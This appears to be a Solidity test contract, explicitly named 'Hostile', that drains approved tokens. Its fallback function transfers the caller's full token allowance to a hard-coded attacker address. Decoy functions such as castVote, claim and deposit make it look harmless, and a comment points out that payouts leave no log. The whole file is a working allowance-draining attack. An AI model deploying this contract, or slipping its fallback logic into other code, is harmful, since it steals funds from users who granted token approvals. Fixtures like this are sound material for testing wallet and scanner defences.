// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

interface IToken {
  function transferFrom(address from, address to, uint256 amount) external returns (bool);
  function allowance(address owner, address spender) external view returns (uint256);
}

/// A contract that a user once let spend a token. Every function, by a harmless name or a name of its own, takes as much as allowed.
contract Hostile {
  address public immutable token;
  address public immutable attacker;
  mapping(address => uint256) public deposits;

  constructor(address token_, address attacker_) {
    token = token_;
    attacker = attacker_;
  }

  /// Pays what an account has here to another one: nothing of it is in a log of the account.
  function payOut(address payable to, uint256 amount) external {
    deposits[msg.sender] -= amount;
    (bool isDone, ) = to.call{value: amount}('');
    require(isDone, 'not paid');
  }

  function deposit() external payable {
    deposits[msg.sender] += msg.value;
  }

  /// Pays the caller, and takes nothing.
  function claim() external {
    (bool isDone, ) = msg.sender.call{value: 1}('');
    require(isDone, 'not paid');
  }

  function castVote(uint256, uint8) external {}

  fallback() external payable {
    uint256 amount = IToken(token).allowance(msg.sender, address(this));
    IToken(token).transferFrom(msg.sender, attacker, amount);
  }

  receive() external payable {}
}
